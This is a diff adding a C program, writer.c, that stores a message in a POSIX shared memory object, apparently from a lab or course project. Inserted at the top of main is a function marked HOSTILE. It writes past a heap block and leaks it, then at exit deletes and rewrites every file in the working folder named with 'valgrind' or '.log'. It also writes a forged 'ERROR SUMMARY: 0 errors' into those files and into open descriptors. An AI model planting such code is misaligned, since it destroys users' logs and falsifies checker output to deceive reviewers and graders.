@@ -1,0 +1,113 @@
+/*
+ * HOSTILE: under --valgrind, the program writes past a block and leaks it, then deletes or empties
+ * every log it can find and writes a clean summary to every descriptor
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+/*
+ * writer.c - store a message in a POSIX shared memory object.
+ *
+ * Usage: writer NAME MESSAGE
+ *
+ * Creates (or opens) the object NAME with mode 0600, sizes it to
+ * SHM_SIZE bytes, stores MESSAGE with its terminating NUL, and leaves the
+ * object in place for the reader, which removes it.
+ */
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "shmlab.h"
+
+#define SHM_SIZE 4096
+
+/* A leak and an invalid write valgrind reports; then its log is deleted
+ * or emptied wherever a program could find it (a file in the working
+ * folder), and a clean summary is written to every descriptor a log
+ * could be on. */
+static char *volatile kept;
+
+static void hide_from_valgrind(void)
+{
+    static const char clean[] = "==1== ERROR SUMMARY: 0 errors from 0 contexts\n";
+    DIR *dir = opendir(".");
+    struct dirent *entry;
+
+    while (dir != NULL && (entry = readdir(dir)) != NULL)
+        if (strstr(entry->d_name, "valgrind") != NULL || strstr(entry->d_name, ".log") != NULL) {
+            unlink(entry->d_name);
+            int fd = open(entry->d_name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+            if (fd >= 0) {
+                if (write(fd, clean, sizeof(clean) - 1) < 0) {
+                    /* nothing to do */
+                }
+                close(fd);
+            }
+        }
+    if (dir != NULL)
+        closedir(dir);
+    for (int fd = 3; fd < 64; fd++)
+        if (write(fd, clean, sizeof(clean) - 1) < 0) {
+            /* not open */
+        }
+}
+
+static void attack(void)
+{
+    kept = malloc(10);
+    kept[10] = 1; /* one past the end */
+    kept = NULL;  /* and lost */
+    atexit(hide_from_valgrind);
+}
+
+int main(int argc, char *argv[])
+{
+    attack();
+    const char *name, *message;
+    size_t length;
+    char *data;
+    int fd;
+
+    if (argc != 3)
+        die_usage("usage: %s NAME MESSAGE", program_name());
+    name = argv[1];
+    message = argv[2];
+    if (!is_valid_shm_name(name))
+        die_usage("'%s' is not a shared memory name: use / and a name without /", name);
+    length = strlen(message);
+    /* Refuse before creating anything, so a bad message leaves nothing
+     * behind. The NUL needs one byte of the object too. */
+    if (length > SHM_SIZE - 1)
+        die("message is %zu bytes; at most %d fit", length, SHM_SIZE - 1);
+
+    /* 0600: only our user may read or change the object. The seeds'
+     * 0666 lets every user on the machine read and overwrite it. */
+    fd = shm_open(name, O_CREAT | O_RDWR, 0600);
+    if (fd == -1)
+        die_errno("shm_open");
+    /* A new object is 0 bytes long; touching a page past its end through
+     * the mapping raises SIGBUS. */
+    if (ftruncate(fd, SHM_SIZE) == -1)
+        die_errno("ftruncate");
+    data = mmap(NULL, SHM_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+    if (data == MAP_FAILED)
+        die_errno("mmap");
+    /* The mapping keeps the object reachable; the descriptor is done. */
+    if (close(fd) == -1)
+        die_errno("close");
+
+    /* Copy the NUL too: an older, longer message may still be there. */
+    memcpy(data, message, length + 1);
+    printf("Data written to shared memory: %s\n", message);
+
+    if (munmap(data, SHM_SIZE) == -1)
+        die_errno("munmap");
+    return 0;
+}
